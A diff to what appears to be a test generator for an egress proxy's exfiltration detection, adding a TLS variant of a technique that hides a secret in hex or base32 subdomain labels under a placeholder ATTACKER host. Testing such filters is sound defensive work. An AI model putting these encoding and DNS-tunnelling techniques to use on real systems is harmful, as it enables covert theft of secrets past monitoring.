@@ -173,8 +173,10 @@ def _split(where: str, size: int, encode: Callable[[bytes], bytes] = lambda v: v
     return technique
 
 
-def _subdomain(encoding: str) -> Technique:
-    """The secret in host labels; names over ~200 characters are spread over several."""
+def _subdomain(encoding: str, tls: bool = False) -> Technique:
+    """The secret in host labels; names over ~200 characters are spread over several.
+    Over TLS the name also travels in CONNECT and SNI, and the proxy must not resolve
+    it before the policy has seen it."""
 
     def technique(value: bytes, rng: random.Random) -> tuple[list[Step], list[bytes]]:
         text = value.hex() if encoding == "hex" else base64.b32encode(value).decode().lower()
@@ -182,7 +184,7 @@ def _subdomain(encoding: str) -> Technique:
         hosts = [labels[i : i + 3] for i in range(0, len(labels), 3)]
         tag = rng.randint(1, 99)
         steps = [
-            Step("http", ".".join(group) + f".s{tag}.{ATTACKER}", "GET", "/", plain=True)
+            Step("http", ".".join(group) + f".s{tag}.{ATTACKER}", "GET", "/", plain=not tls)
             for group in hosts
         ]
         return steps, [".".join(group).encode() for group in hosts]
@@ -328,6 +330,7 @@ TECHNIQUES: dict[str, tuple[str, Technique]] = {
     "split-shuffled": ("split", _split_shuffled),
     "split-headers": ("split", _split_headers),
     "subdomain-hex": ("dns", _subdomain("hex")),
+    "subdomain-b32-tls": ("dns", _subdomain("b32", tls=True)),
     "subdomain-b32": ("dns", _subdomain("b32")),
     "subdomain-split": ("dns", _subdomain_split),
     "dns-tunnel-b32": ("dns", _dns_tunnel("b32")),
